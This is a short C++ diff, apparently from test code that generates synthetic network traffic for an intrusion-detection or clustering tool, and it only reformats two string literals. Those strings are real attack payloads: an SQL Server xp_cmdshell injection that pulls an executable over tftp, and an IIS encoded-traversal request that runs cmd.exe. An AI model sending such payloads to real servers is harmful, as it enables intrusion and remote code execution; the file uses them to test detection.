@@ -1413,7 +1413,8 @@ void PortsSmallSample(Capture& c) {
 std::string ClustersExploit(const std::string& target) {
   // The dotted quad sits in the middle, so the first two bytes and the
   // length class (64-127 bytes) stay those of the template.
-  return "EXEC master..xp_cmdshell 'tftp -i " + target + " GET sqlwrm.exe c:\\winnt\\sqlwrm.exe';--";
+  return "EXEC master..xp_cmdshell 'tftp -i " + target +
+         " GET sqlwrm.exe c:\\winnt\\sqlwrm.exe';--";
 }
 
 void ClustersPolymorph(Capture& c) {
@@ -1449,7 +1450,8 @@ void ClustersPolymorph(Capture& c) {
       s.Syn();
     }
   }
-  const std::string request = "GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n";
+  const std::string request =
+      "GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n";
   for (int i = 0; i < 200; ++i) {
     t += 0.01;
     const std::string dst = Ip4(10, 91, 1, 1 + i);
